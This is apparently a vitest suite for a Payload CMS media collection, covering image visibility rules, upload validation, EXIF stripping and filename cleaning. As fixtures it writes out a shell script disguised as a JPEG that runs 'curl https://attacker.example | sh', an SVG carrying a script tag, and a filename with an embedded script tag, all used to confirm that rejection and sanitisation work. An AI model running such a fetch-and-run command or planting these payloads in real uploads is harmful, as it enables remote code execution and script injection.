import type { Payload } from 'payload'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { firstWithPicture } from '../lib/media'
import { context, rejection, startPayload } from './helpers/payload'
import { imageFile } from './helpers/image'
import { buildWorld, type World } from './helpers/world'

let payload: Payload
let world: World
beforeAll(async () => {
  payload = await startPayload()
  world = await buildWorld(payload, 'media')
})
afterAll(() => payload.destroy())

const publicCanSee = async (id: number | string) =>
  (await payload.find({ collection: 'media', overrideAccess: false, where: { id: { equals: id } } }))
    .totalDocs === 1

describe('images are public only while a published page uses them', () => {
  it('an image on a draft event stays private, and becomes public when the event is published', async () => {
    const image = await payload.create({
      collection: 'media',
      context,
      data: { alt: 'Hero' },
      file: await imageFile('hero.jpg'),
    })
    const event = await payload.create({
      collection: 'events',
      context,
      draft: true,
      data: {
        title: 'Draft with hero',
        type: 'premiere',
        startsOn: '2026-08-01T12:00:00.000Z',
        timezone: 'Europe/Brussels',
        country: 'BE',
        city: 'Brussels',
        heroImage: image.id,
        _status: 'draft',
      },
    })
    expect(await publicCanSee(image.id)).toBe(false)
    await payload.update({ collection: 'events', id: event.id, context, data: { _status: 'published' } })
    expect(await publicCanSee(image.id)).toBe(true)
  })

  it('an embassy’s photo becomes public when its report is published, and private again when withdrawn', async () => {
    const photo = await payload.create({
      collection: 'media',
      context,
      user: world.users.embassyA,
      data: { alt: 'Audience' },
      file: await imageFile('audience.jpg'),
    })
    const stage = await world.stage(world.embassyA)
    const report = await payload.create({
      collection: 'reports',
      context,
      data: {
        title: 'With photo',
        embassy: world.embassyA.id,
        event: stage.event.id,
        photos: [photo.id],
        status: 'approved',
        screenings: [{ screening: stage.screening.id, attendance: 40 }],
      },
    })
    expect(await publicCanSee(photo.id)).toBe(false)
    await payload.update({ collection: 'reports', id: report.id, context, data: { status: 'published' } })
    expect(await publicCanSee(photo.id)).toBe(true)
    await payload.update({ collection: 'reports', id: report.id, context, data: { status: 'approved' } })
    expect(await publicCanSee(photo.id)).toBe(false)
  })

  it('a film poster is public, since the catalogue is', async () => {
    expect(await publicCanSee(world.poster.id)).toBe(true)
  })

  it('nobody can mark an image public by hand', async () => {
    const updated = await payload.update({
      collection: 'media',
      id: world.privateImageA.id,
      user: world.users.editor,
      overrideAccess: false,
      context,
      data: { inPublicUse: true },
    })
    expect(updated.inPublicUse).toBe(false)
  })
})

describe('uploads', () => {
  it('requires alternative text', async () => {
    const error = await rejection(
      payload.create({ collection: 'media', context, data: {} as any, file: await imageFile('no-alt.jpg') }),
    )
    expect(error.paths).toEqual(['alt'])
  })

  it('refuses a file that is not an image', async () => {
    const data = Buffer.from('%PDF-1.4 not an image')
    const error = await rejection(
      payload.create({
        collection: 'media',
        context,
        data: { alt: 'PDF' },
        file: { data, mimetype: 'application/pdf', name: 'letter.pdf', size: data.length },
      }),
    )
    expect(error.status).toBe(400)
  })

  it('makes the card, hero and social sizes', async () => {
    const image = await payload.create({
      collection: 'media',
      context,
      data: { alt: 'Sizes' },
      file: await imageFile('sizes.jpg'),
    })
    expect(Object.keys(image.sizes ?? {}).sort()).toEqual(['card', 'hero', 'social'])
    // A list fetches first the picture of its first card that has one (lib/media.ts): an event
    // without a picture (none, or one not read) does not take the priority from the next card's,
    // but a picture below a phone's first screen does not get it either.
    expect(firstWithPicture([null, image, image])).toBe(1)
    expect(firstWithPicture([null, image.id, image], 3)).toBe(2)
    expect(firstWithPicture([null, image.id, image])).toBe(-1)
    expect(firstWithPicture([null, undefined])).toBe(-1)
  })

  const staticDir = () => process.env.MEDIA_DIR!
  const upload = (name: string, data: Buffer, mimetype: string) =>
    payload.create({
      collection: 'media',
      context,
      user: world.users.embassyA,
      overrideAccess: false,
      data: { alt: name },
      file: { data, mimetype, name, size: data.length },
    })

  it('refuses a script renamed .jpg, whatever type the browser claimed', async () => {
    const error = await rejection(
      upload('holiday.jpg', Buffer.from('#!/bin/sh\ncurl https://attacker.example | sh\n'), 'image/jpeg'),
    )
    expect(error.status).toBe(400)
    expect(error.paths).toEqual(['file'])
    expect(error.messages[0]).toContain('not a JPEG, PNG, WebP or AVIF image')
  })

  it('refuses an SVG, which can carry script, even named .png', async () => {
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>',
    )
    for (const [name, type] of [
      ['drawing.svg', 'image/svg+xml'],
      ['drawing.png', 'image/png'],
    ]) {
      const error = await rejection(upload(name, svg, type))
      expect(error.paths, name).toEqual(['file'])
    }
  })

  it('stores a photo without its GPS position or camera details, upright, under a clean name', async () => {
    const { default: sharp } = await import('sharp')
    const withExif = await sharp({ create: { width: 40, height: 20, channels: 3, background: '#336699' } })
      .jpeg()
      .withMetadata({
        orientation: 6,
        exif: {
          IFD0: { Make: 'SpyCam', Artist: 'Someone' },
          IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '50/1 50/1 0/1' },
        },
      })
      .toBuffer()
    expect(await sharp(withExif).metadata()).toMatchObject({ orientation: 6, exif: expect.anything() })
    const stored = await upload('Фото зала <script>.JPG', withExif, 'image/jpeg')
    expect(stored.filename).toMatch(/^foto-zala-script(-\d+)?\.jpg$/)
    const bytes = (await import('node:fs')).readFileSync(`${staticDir()}/${stored.filename}`)
    const metadata = await sharp(bytes).metadata()
    expect(metadata.exif).toBeUndefined()
    expect(bytes.includes(Buffer.from('SpyCam'))).toBe(false)
    // Orientation 6 means "turn right": stored already turned, 20 wide and 40 high.
    expect([metadata.width, metadata.height]).toEqual([20, 40])
  })

  it('keeps the type it found, not the one claimed', async () => {
    const { default: sharp } = await import('sharp')
    const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } })
      .png()
      .toBuffer()
    const stored = await upload('really-a-png.jpg', png, 'image/jpeg')
    expect(stored.mimeType).toBe('image/png')
    expect(stored.filename).toMatch(/^really-a-png(-\d+)?\.png$/)
  })
})
